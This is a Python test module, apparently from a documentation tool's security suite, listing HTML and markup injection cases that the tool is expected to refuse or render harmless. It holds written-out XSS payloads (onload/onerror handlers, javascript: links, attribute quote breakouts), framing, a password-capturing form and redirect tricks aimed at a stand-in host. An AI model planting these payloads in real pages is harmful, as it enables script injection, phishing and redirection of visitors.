"""Elements that run no script of their own, and attributes that would."""

from __future__ import annotations

from tests.attacks.attack import PAGE, RUN, Attack, Harm, Plain, page


def _writes(  # noqa: PLR0913 - one argument for each thing that differs
    name: str,
    tries: str,
    lines: str,
    harm: Harm = Harm.SCRIPT,
    *,
    plain: Plain = Plain.WORKED,
    line: int = 3,
) -> Attack:
    """Make an attack by a page that is refused at a line; 0 if it is shown, and harmless."""
    refused = f"refused {PAGE}:{line}" if line else ""
    return Attack(
        name=name, tries=tries, files=page(lines), harm=harm, plain=plain, refused=refused
    )


ELEMENTS = (
    _writes(
        "html-style",
        "change the look of the page",
        "<style>body{display:none}/*pwned*/</style>",
        Harm.STYLE,
    ),
    _writes(
        "html-style-attribute",
        "lay an element over the page",
        '<div style="position:fixed;inset:0">pwned</div>',
        Harm.STYLE,
    ),
    _writes(
        "html-iframe",
        "show another site",
        '<iframe src="https://canary.example/"></iframe>',
        Harm.FRAME,
    ),
    _writes(
        "html-srcdoc",
        "run a script within a frame",
        f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    ),
    _writes(
        "html-object",
        "show another site as an object",
        '<object data="https://canary.example/"></object>',
        Harm.FRAME,
    ),
    _writes(
        "html-embed", "the same as a plug-in", '<embed src="https://canary.example/">', Harm.FRAME
    ),
    _writes(
        "html-form",
        "ask visitors for their password",
        '<form action="https://canary.example/"><input type=password name=p></form>',
        Harm.FRAME,
    ),
    _writes(
        "html-formaction",
        "send the form of the theme elsewhere",
        '<button form="search" formaction="https://canary.example/">Search</button>',
        Harm.FRAME,
    ),
    _writes(
        "html-base",
        "make all links of the page lead elsewhere",
        '<base href="https://canary.example/">',
        Harm.REDIRECT,
    ),
    _writes(
        "html-refresh",
        "send visitors elsewhere",
        '<meta http-equiv="refresh" content="0;url=https://canary.example/">',
        Harm.REDIRECT,
    ),
    _writes(
        "html-end-tags",
        "close the elements of the theme",
        f'</p></div></main></body><svg onload="{RUN}">',
    ),
    _writes(
        "html-math",
        "write MathML that is a link",
        f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    ),
    _writes(
        "html-template",
        "hide HTML from readers in a template",
        f'<template><svg onload="{RUN}"></template><svg onload="{RUN}">',
    ),
    _writes(
        "html-noscript",
        "close an element within an attribute",
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    ),
    _writes(
        "youtube",
        "show a video of another host",
        ":::{youtube} canary\n:::",
        Harm.FRAME,
        plain=Plain.HARMLESS,
    ),
    _writes(
        "iframe-directive",
        "show another site by a directive",
        ":::{iframe} https://canary.example/\n:::",
        Harm.FRAME,
        plain=Plain.HARMLESS,
    ),
)

ATTRIBUTES = (
    _writes(
        "attribute-handler",
        "give an image a handler",
        f'![it](../_static/favicon.svg){{onload="{RUN}"}}',
        plain=Plain.HARMLESS,
        line=0,
    ),
    _writes(
        "attribute-handler-of-block",
        "give a paragraph a handler",
        f'{{onclick="{RUN}"}}\nWords.',
        plain=Plain.HARMLESS,
        line=0,
    ),
    _writes(
        "attribute-style",
        "lay a paragraph over the page",
        '{style="position:fixed;inset:0;background:url(https://canary.example/pwned)"}\nWords.',
        Harm.STYLE,
        plain=Plain.HARMLESS,
        line=0,
    ),
    _writes(
        "attribute-quote",
        "break out of an attribute",
        f"[words](../index.md){{title='x\" onmouseover=\"{RUN}'}}",
        plain=Plain.HARMLESS,
        line=0,
    ),
    _writes(
        "class-quote",
        "break out of a class",
        f':::{{div}} x" onmouseover="{RUN}\nWords.\n:::',
        plain=Plain.HARMLESS,
        line=0,
    ),
    _writes(
        "alt-quote",
        "break out of the words of a picture",
        f'![x" onerror="{RUN}](../_static/favicon.svg)',
        plain=Plain.HARMLESS,
        line=0,
    ),
    _writes(
        "width-of-image",
        "write styles as the width of a picture",
        "```{image} ../_static/favicon.svg\n:width: 1px;position:fixed;inset:0\n```",
        Harm.STYLE,
        plain=Plain.HARMLESS,
        line=0,
    ),
    _writes(
        "highlight-language",
        "break out of the language of a code block",
        f'```python"><svg/onload={RUN}>\nwords\n```',
        plain=Plain.HARMLESS,
        line=0,
    ),
    _writes(
        "code-caption",
        "write HTML into the caption of a code block",
        f'```{{code-block}} text\n:caption: <svg onload="{RUN}">\n\nwords\n```',
        plain=Plain.HARMLESS,
        line=0,
    ),
    _writes(
        "role-abbr",
        "break out of the title of an abbreviation",
        f'{{abbr}}`x (y" onmouseover="{RUN})`',
        plain=Plain.HARMLESS,
        line=0,
    ),
)

ELEMENTS_AND_ATTRIBUTES = (*ELEMENTS, *ATTRIBUTES)
